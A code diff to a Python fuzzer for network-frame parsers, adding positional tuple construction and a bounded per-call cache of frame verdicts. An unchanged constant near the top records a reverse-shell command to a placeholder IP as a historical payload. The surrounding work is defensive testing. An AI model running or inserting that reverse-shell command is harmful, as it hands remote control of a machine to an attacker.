@@ -58,6 +58,12 @@ STRATEGIES = ("bitflip", "byteflip", "field-splice", "length-truncate", "lse-dup
 REMOTE_SHELL_NOTE = 'historical payload spawned: bash -i >& /dev/tcp/<IP>/8080 (never executed here)'
 
 _MALFORMED = ParseStatus.MALFORMED
+# Positional NamedTuple construction: skips the generated __new__'s Python frame.
+_tuple_new = tuple.__new__
+# How many distinct frames one diff_fuzz call keeps verdicts for. The first
+# ones seen are kept and none is evicted, so a call's memory stays bounded
+# however many mutants it runs.
+VERDICT_MEMO_FRAMES = 4096
 
 
 class PayloadTooLarge(ValueError):
@@ -256,7 +262,7 @@ def _mutation_stream(corpus: tuple[RawFrame, ...], budget: MutationBudget) -> It
             buf[rng.randrange(len(buf))] ^= 0xFF
 
         del buf[budget.max_len :]
-        yield RawFrame(bytes(buf), len(buf))
+        yield _tuple_new(RawFrame, (bytes(buf), len(buf), 0, 0))
 
 
 @dataclass
@@ -312,7 +318,7 @@ def minimize(frame: RawFrame, cls: VulnClass, profiles: Sequence[ParserProfile])
     def triggers(data: bytes) -> bool:
         if not data:
             return False
-        candidate = RawFrame(data, len(data))
+        candidate = _tuple_new(RawFrame, (data, len(data), 0, 0))
         for index, profile in enumerate(order):
             events = extract(candidate, 0, profile).events
             if events and classify_events(events) is cls:
@@ -343,6 +349,15 @@ def diff_fuzz(
     rules (commutative counts, smallest-then-lexicographic exemplars) make
     the report independent of evaluation order. Empty seed frames cannot be
     extracted or mutated; they are skipped and counted in ``empty_seeds``.
+
+    Each distinct frame is judged once per call: its verdict (the findings it
+    adds to the ledger and its hardened-event count) is kept by its octets, and
+    a repeated frame adds that verdict again without being extracted. This is
+    exact: every frame is extracted with in_port 0 and the default
+    ``adjacent``, so extract reads nothing of it but ``frame.data``. Counts and
+    exemplars still accrue per frame, so the report is the same as judging
+    every frame afresh. The first ``VERDICT_MEMO_FRAMES`` distinct frames are
+    kept, none is evicted, and nothing outlives the call.
     """
     profiles = tuple(profiles)
     hardened = tuple(p for p in profiles if p.mode is ParserMode.HARDENED)
@@ -367,20 +382,31 @@ def diff_fuzz(
     counts: dict[VulnClass | None, int] = {}
     best: dict[VulnClass | None, tuple[int, bytes]] = {}
     hardened_events = 0
+    # A frame's verdict: what it adds to the ledger, and its hardened events.
+    verdicts: dict[bytes, tuple[list[VulnClass | None], int]] = {}
     for frame in chain(seeds, mutate(seeds, budget)):
-        results = [extract(frame, 0, profile) for profile in hardened]
-        if any(result.key.parse_status is _MALFORMED for result in results):
-            results += [extract(frame, 0, profile) for profile in vulnerable]
-        else:
-            parsed = {limit: extract(frame, 0, leader) for limit, leader in leaders.items()}
-            results += [parsed[profile.label_limit] for profile in vulnerable]
-        found = [classify_events(result.events) for result in results if result.events]
-        if found:
-            hardened_events += sum(1 for result in results[: len(hardened)] if result.events)
-        elif any(result.key != results[0].key for result in results[1:]):
-            found = [None]
+        data = frame.data
+        verdict = verdicts.get(data)
+        if verdict is None:
+            results = [extract(frame, 0, profile) for profile in hardened]
+            if any(result.key.parse_status is _MALFORMED for result in results):
+                results += [extract(frame, 0, profile) for profile in vulnerable]
+            else:
+                parsed = {limit: extract(frame, 0, leader) for limit, leader in leaders.items()}
+                results += [parsed[profile.label_limit] for profile in vulnerable]
+            found = [classify_events(result.events) for result in results if result.events]
+            events = 0
+            if found:
+                events = sum(1 for result in results[: len(hardened)] if result.events)
+            elif any(result.key != results[0].key for result in results[1:]):
+                found = [None]
+            verdict = (found, events)
+            if len(verdicts) < VERDICT_MEMO_FRAMES:
+                verdicts[data] = verdict
+        found, events = verdict
+        hardened_events += events
         for cls in found:
-            rank = (frame.capture_len, frame.data)
+            rank = (len(data), data)
             counts[cls] = counts.get(cls, 0) + 1
             if cls not in best or rank < best[cls]:
                 best[cls] = rank
